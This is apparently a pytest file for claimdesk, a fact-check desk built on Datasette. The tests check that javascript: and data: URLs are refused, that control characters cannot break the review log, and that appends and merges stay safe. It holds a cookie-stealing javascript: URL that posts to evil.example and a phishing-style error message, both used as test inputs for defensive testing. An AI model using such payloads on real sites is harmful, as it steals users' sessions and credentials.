"""Issue 15, "What editors write": what an editor types, or a merge brings in, never breaks an
article, never runs in a reader's browser, and never bends a rule. One test (or more) per item,
named by its number, through the command line and through the desk where the defect lives."""

from __future__ import annotations

import errno
import json
import os
import shutil
from pathlib import Path
from typing import Any

import httpx
import pytest
import sqlite_utils
from datasette.app import Datasette

from claimdesk.database.build import build
from claimdesk.files import store
from claimdesk.files.urls import is_web_url, safe_url
from conftest import ARTICLE
from desk_fixtures import desk_datasette, editor, idc_project, run_cli
from test_desk import VERIFY, post

MARKET, GROWTH = "c0000000001", "c0000000002"
EVIL = "javascript:fetch('//evil.example/?c='+document.cookie)"
EVIDENCE = ["--evidence-url", "https://www.idc.com/pr", "--evidence-quote", "市場規模為432億元",
            "--explanation", "相符。"]  # fmt: skip
# Every character str.splitlines() splits at, and the other C0/C1 controls and the BOM.
BREAKERS = [
    "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\r", "\r\n", "\n",
    "\x00", "\x1b", "\x7f", "\x9f", "\ufeff",
]  # fmt: skip


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    environment: dict[str, str] = {}
    folder = idc_project(tmp_path, environment)
    for name, value in environment.items():
        monkeypatch.setenv(name, value)
    return folder


@pytest.fixture
async def desk(project: Path) -> Datasette:
    return await desk_datasette(project / "claimdesk.db", project / "claims")


run = run_cli


def log_path(project: Path) -> Path:
    return project / "claims" / "idc-market" / "reviews.jsonl"


def events(project: Path) -> list[dict[str, Any]]:
    path = log_path(project)
    if not path.exists():
        return []
    return [json.loads(line) for line in path.read_bytes().decode("utf-8").split("\n") if line]


async def page(desk: Datasette, path: str, who: str | None = "amy") -> httpx.Response:
    response: httpx.Response = await desk.client.get(
        path, actor=editor(who) if who is not None else None
    )
    return response


def public_row(project: Path, claim_id: str) -> dict[str, Any]:
    return dict(sqlite_utils.Database(project / "claimdesk.db").table("claims").get(claim_id))


# --- 9. only http and https addresses are stored, shown and published as links --------------


def test_9_add_refuses_a_javascript_url(project: Path) -> None:
    text = project / "report.txt"
    text.write_text(ARTICLE, encoding="utf-8")
    output = run(project, "add", str(text), "--slug", "report", "--url", EVIL, code=1)
    assert "http" in output and "url" in output
    assert not (project / "claims" / "report").exists()


def test_9_verify_refuses_a_javascript_evidence_url_from_the_command_line(project: Path) -> None:
    output = run(project, "verify", MARKET, "--verdict", "correct", "--evidence-url", EVIL,
                 "--evidence-quote", "x", "--explanation", "x", code=1)  # fmt: skip
    assert "evidence_url" in output and "http" in output
    assert events(project) == []


@pytest.mark.parametrize(
    "url", [EVIL, "JavaScript:alert(1)", " javascript:alert(1)", "data:text/html,<b>", "//evil"]
)
async def test_9_the_desk_refuses_an_evidence_url_that_is_not_http(
    desk: Datasette, project: Path, url: str
) -> None:
    response = await post(desk, MARKET, "verify", "amy", **{**VERIFY, "evidence_url": url})
    assert response.status_code == 400
    assert 'data-field="evidence_url"' in response.text
    assert events(project) == []


async def test_9_a_javascript_url_written_into_the_log_by_hand_is_never_a_link(
    desk: Datasette, project: Path
) -> None:
    run(project, "verify", MARKET, "--verdict", "correct", *EVIDENCE)
    (verify,) = events(project)
    verify["evidence_url"] = EVIL  # as a hand edit or an older claimdesk would leave it
    approve = {"id": "0188dd65-8d00-7000-a46d-d6122265b1f5", "at": "2030-01-01T00:00:00Z",
               "editor": "ben", "type": "approve", "claim_id": MARKET, "verify_id": verify["id"],
               "note": None}  # fmt: skip
    log_path(project).write_text(
        json.dumps(verify, ensure_ascii=False) + "\n" + json.dumps(approve) + "\n", "utf-8"
    )
    report = build(project / "claims", project / "claimdesk.db", full=True)
    assert any("reviews.jsonl:1:" in p and "http" in p for p in report.problems)
    for path in (f"/claim/{MARKET}", "/article/idc-market"):
        html = (await desk.client.get(path)).text
        assert "javascript:" not in html
    assert "javascript:" not in (await page(desk, f"/desk/claim/{MARKET}")).text


def test_9_pages_check_the_address_again_when_they_render_it() -> None:
    assert safe_url("https://www.idc.com/pr") == "https://www.idc.com/pr"
    for bad in (EVIL, "JAVASCRIPT:x", "java\tscript:x", "data:,x", "vbscript:x", "/relative",
                "https://x.example/\u2028", "http://", None, 3):  # fmt: skip
        assert safe_url(bad) is None
        assert not is_web_url(bad)


# --- 10. no character an editor can type breaks the log -------------------------------------


@pytest.mark.parametrize("char", BREAKERS, ids=[f"U+{ord(c[0]):04X}" for c in BREAKERS])
async def test_10_a_line_separator_or_control_typed_on_the_command_line_keeps_the_log_whole(
    desk: Datasette, project: Path, char: str
) -> None:
    run(project, "verify", MARKET, "--verdict", "correct", "--evidence-url",
        "https://www.idc.com/pr", "--evidence-quote", f"市場{char}規模", "--note", f"a{char}b",
        "--explanation", f"相符{char}。")  # fmt: skip
    run(project, "send-back", MARKET, "--reason", f"再看{char}表2", editor="ben")
    assert len(log_path(project).read_bytes().split(b"\n")) == 3  # two lines, one final \n
    report = build(project / "claims", project / "claimdesk.db", full=True)
    assert report.problems == []
    assert "再看" in run(project, "show", MARKET)
    for path in ("/desk", f"/desk/claim/{MARKET}", "/desk/article/idc-market"):
        assert (await page(desk, path)).status_code == 200, path
    assert (await desk.client.get(f"/claim/{MARKET}")).status_code == 200


@pytest.mark.parametrize("char", BREAKERS, ids=[f"U+{ord(c[0]):04X}" for c in BREAKERS])
async def test_10_a_line_separator_or_control_typed_on_the_desk_keeps_the_log_whole(
    desk: Datasette, project: Path, char: str
) -> None:
    fields = {**VERIFY, "evidence_quote": f"市場{char}規模", "explanation_zh_hant": f"相符{char}。"}
    assert (await post(desk, MARKET, "verify", "amy", **fields)).status_code == 303
    response = await post(desk, MARKET, "send_back", "ben", reason=f"再看{char}表2")
    assert response.status_code == 303
    response = await post(desk, GROWTH, "correct", "ben", field="qualifier",
                          to="約", reason=f"原文{char}有約")  # fmt: skip
    assert response.status_code in (303, 400)
    assert len(events(project)) in (2, 3)
    for path in ("/desk", f"/desk/claim/{MARKET}", "/desk/article/idc-market"):
        assert (await page(desk, path)).status_code == 200, path
    assert build(project / "claims", project / "claimdesk.db", full=True).problems == []
    # Another action on the article still works afterwards.
    assert (await post(desk, MARKET, "dismiss", "ben", reason="x")).status_code == 303


def test_10_the_log_is_split_at_newlines_only() -> None:
    text = '{"a":"x\u2028y\u0085z\x0c"}\r\n{"b":1}\n'
    assert store.log_lines(text) == ['{"a":"x\u2028y\u0085z\x0c"}', '{"b":1}']


# --- 11. a failed append leaves the file as it was --------------------------------------------


@pytest.mark.parametrize("short", [True, False], ids=["short write", "disk full"])
def test_11_a_failed_append_leaves_the_log_as_it_was(
    project: Path, monkeypatch: pytest.MonkeyPatch, short: bool
) -> None:
    run(project, "assign", MARKET)
    before = log_path(project).read_bytes()
    real_write = os.write

    def failing_write(fd: int, data: bytes | memoryview) -> int:
        monkeypatch.setattr(
            "claimdesk.files.store.os.write", real_write
        )  # only the first write fails
        written = real_write(fd, bytes(data)[:7])
        if short:
            return written
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr("claimdesk.files.store.os.write", failing_write)
    run(project, "unassign", MARKET, code=1)
    assert log_path(project).read_bytes() == before
    # Once the space is back, every action on the article works.
    run(project, "unassign", MARKET)
    assert [e["type"] for e in events(project)] == ["assign", "unassign"]
    assert build(project / "claims", project / "claimdesk.db", full=True).problems == []


# --- 12. editors are shown the log's problems on the desk -------------------------------------


async def test_12_the_queue_and_the_article_page_show_the_lines_left_out(
    desk: Datasette, project: Path
) -> None:
    run(project, "assign", MARKET)
    with log_path(project).open("a", encoding="utf-8") as log:
        log.write("{not json\n")
    report = build(project / "claims", project / "claimdesk.db")
    assert any("reviews.jsonl:2:" in p for p in report.problems)
    for path in ("/desk", "/desk/article/idc-market"):
        html = (await page(desk, path)).text
        assert "data-log-problems" in html, path
        assert "claims/idc-market/reviews.jsonl" in html and "line 2" in html
        assert html.index("已略過") < html.index("left out")  # Chinese first, then English
    # The event on the good line still counts.
    assert "in_progress" in (await page(desk, "/desk/article/idc-market")).text


# --- 13. one event from the future does not freeze its claim -------------------------------


def _future_assign(project: Path) -> None:
    line = {"id": "0188dd65-8d00-7000-a46d-d6122265b1f5", "at": "2999-01-01T00:00:00Z",
            "editor": "amy", "type": "assign", "claim_id": MARKET}  # fmt: skip
    log_path(project).write_text(json.dumps(line) + "\n", encoding="utf-8")
    build(project / "claims", project / "claimdesk.db")


def test_13_an_event_from_the_future_does_not_freeze_the_claim_on_the_command_line(
    project: Path,
) -> None:
    _future_assign(project)
    run(project, "unassign", MARKET)
    run(project, "verify", MARKET, "--verdict", "correct", *EVIDENCE, "--source-value", "432億")
    run(project, "approve", MARKET, editor="ben")
    assert [e["type"] for e in events(project)] == ["assign", "unassign", "verify", "approve"]
    assert public_row(project, MARKET)["status"] == "published"
    assert build(project / "claims", project / "claimdesk.db", full=True).problems == []


async def test_13_an_event_from_the_future_does_not_freeze_the_claim_on_the_desk(
    desk: Datasette, project: Path
) -> None:
    _future_assign(project)
    assert (await post(desk, MARKET, "unassign", "amy")).status_code == 303
    assert (await post(desk, MARKET, "verify", "amy", **VERIFY)).status_code == 303
    assert [e["type"] for e in events(project)] == ["assign", "unassign", "verify"]


# --- 15. the rules are enforced -------------------------------------------------------------


def test_15_an_editor_cannot_send_back_their_own_verification(project: Path) -> None:
    run(project, "verify", MARKET, "--verdict", "correct", *EVIDENCE)
    output = run(project, "send-back", MARKET, "--reason", "oops", code=1)
    assert "cannot send back their own verification" in output
    assert [e["type"] for e in events(project)] == ["verify"]


async def test_15_the_desk_refuses_sending_back_your_own_verification(
    desk: Datasette, project: Path
) -> None:
    await post(desk, MARKET, "verify", "amy", **VERIFY)
    response = await post(desk, MARKET, "send_back", "amy", reason="oops")
    assert response.status_code == 400
    assert "cannot send back their own verification" in response.text
    assert [e["type"] for e in events(project)] == ["verify"]


@pytest.mark.parametrize("original", ["c00000000ff", MARKET], ids=["no such claim", "itself"])
def test_15_a_duplicate_must_name_another_claim_that_exists(project: Path, original: str) -> None:
    output = run(project, "dismiss", MARKET, "--reason", "重複", "--duplicate-of", original,
                 code=1)  # fmt: skip
    assert "duplicate_of" in output
    assert events(project) == []
    run(project, "dismiss", MARKET, "--reason", "重複", "--duplicate-of", GROWTH)


async def test_15_the_desk_refuses_a_duplicate_of_a_claim_that_does_not_exist(
    desk: Datasette, project: Path
) -> None:
    response = await post(desk, MARKET, "dismiss", "amy", reason="重複",
                          duplicate_of="c00000000ff")  # fmt: skip
    assert response.status_code == 400
    assert 'data-field="duplicate_of"' in response.text
    assert events(project) == []


# --- 16. what a desk page says comes from the server, never from the address --------------


async def test_16_the_address_cannot_make_the_desk_say_anything(
    desk: Datasette, project: Path
) -> None:
    fake = "會話已過期，請到 https://evil.example 登入 Session expired, sign in at evil.example"
    html = (await page(desk, f"/desk/claim/{MARKET}?done=approve&error={fake}")).text
    assert "Recorded" not in html and "evil.example" not in html
    html = (await page(desk, f"/desk/article/idc-market?error={fake}")).text
    assert "evil.example" not in html
    # Someone else's event, or one of another claim, is not "recorded" for you either.
    run(project, "assign", GROWTH, editor="ben")
    other = events(project)[0]["id"]
    for claim in (MARKET, GROWTH):
        html = (await page(desk, f"/desk/claim/{claim}?done=assign&event={other}")).text
        assert "Recorded" not in html
    # What the server did record is still said.
    response = await post(desk, MARKET, "assign", "amy")
    assert "已記錄 Recorded: 認領 Assigned" in (await page(desk, response.headers["location"])).text


async def test_16_a_refused_claim_on_the_article_page_is_said_without_a_redirect(
    desk: Datasette, project: Path
) -> None:
    response = await desk.client.post(
        "/desk/article/idc-market/add-claim", data={"start": "1", "end": "x"}, actor=editor("amy")
    )
    assert response.status_code == 400
    assert "start and end" in response.text
    assert events(project) == []


# --- 17. a file problem is a clear message, not a 500 ---------------------------------------


async def test_17_an_article_edited_while_serving_gives_a_clear_message(
    desk: Datasette, project: Path
) -> None:
    (project / "claims" / "idc-market" / "article.txt").write_text("全部改寫了。\n", "utf-8")
    for path in (f"/desk/claim/{MARKET}", "/desk/article/idc-market"):
        response = await page(desk, path)
        assert response.status_code == 409, path
        assert "檔案有問題" in response.text and "A file has a problem" in response.text
        assert "idc-market" in response.text
    response = await post(desk, MARKET, "assign", "amy", last_event_id="")
    assert response.status_code == 409
    assert "檔案有問題" in response.text
    assert not log_path(project).exists() or events(project) == []


# --- 14. a union merge never changes the public record silently ----------------------------


def _merge_logs(ours: Path, theirs: Path) -> None:
    """What git's union merge does with reviews.jsonl: the lines of both, each once."""
    mine = log_path(ours).read_text("utf-8").split("\n")
    other = log_path(theirs).read_text("utf-8").split("\n")
    lines = [line for line in dict.fromkeys([*mine, *other]) if line]
    log_path(ours).write_text("\n".join(lines) + "\n", "utf-8")


async def test_14_a_merge_of_two_verifications_keeps_the_published_verdict(
    desk: Datasette, project: Path, tmp_path: Path
) -> None:
    branch = tmp_path / "branch"
    branch.mkdir()
    shutil.copytree(project / "claims", branch / "claims")
    build(branch / "claims", branch / "claimdesk.db")
    # Ours: amy verifies, and (after theirs) ben approves: published "correct".
    run(project, "verify", MARKET, "--verdict", "correct", *EVIDENCE)
    # Theirs, meanwhile: amy verifies it again on another copy, "incorrect", not yet approved.
    run(branch, "verify", MARKET, "--verdict", "incorrect", *EVIDENCE, "--source-value", "99億")
    run(project, "approve", MARKET, editor="ben")
    assert public_row(project, MARKET)["verdict"] == "correct"
    _merge_logs(project, branch)
    report = build(project / "claims", project / "claimdesk.db")
    # Still published as it was; the newer verification waits for review; the build says so.
    row = public_row(project, MARKET)
    assert (row["status"], row["verdict"]) == ("published", "correct")
    assert any("reviews.jsonl:2:" in p and "Merge conflict" in p for p in report.problems), (
        report.problems
    )
    assert build(project / "claims", project / "claimdesk.db", full=True).problems == (
        report.problems
    )
    html = (await page(desk, "/desk/article/idc-market")).text
    assert "data-log-problems" in html and "合併衝突" in html
    assert "needs_review" in run(project, "show", MARKET)
    # Editors settle it: ben approves the newer verification, and it replaces the verdict
    # publicly as any second verdict does (an entry in the claim's corrections).
    run(project, "approve", MARKET, editor="ben")
    row = public_row(project, MARKET)
    assert (row["status"], row["verdict"]) == ("published", "incorrect")


async def test_17_a_file_changed_between_a_refused_form_and_its_page_is_said_clearly(
    desk: Datasette, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A stale form is answered with the claim's page, read again: if the files broke in
    between (an edit while serving), the editor is told so, never a server error."""
    from claimdesk.errors import ClaimdeskError
    from claimdesk.web.desk import views

    def broken(*_: object) -> object:
        raise ClaimdeskError("claims/idc-market/article.txt: changed while it was read")

    monkeypatch.setattr(views, "read_claim", broken)
    response = await post(desk, MARKET, "assign", "amy", last_event_id="not-the-last-one")
    assert response.status_code == 409
    assert "檔案有問題" in response.text and "changed while it was read" in response.text
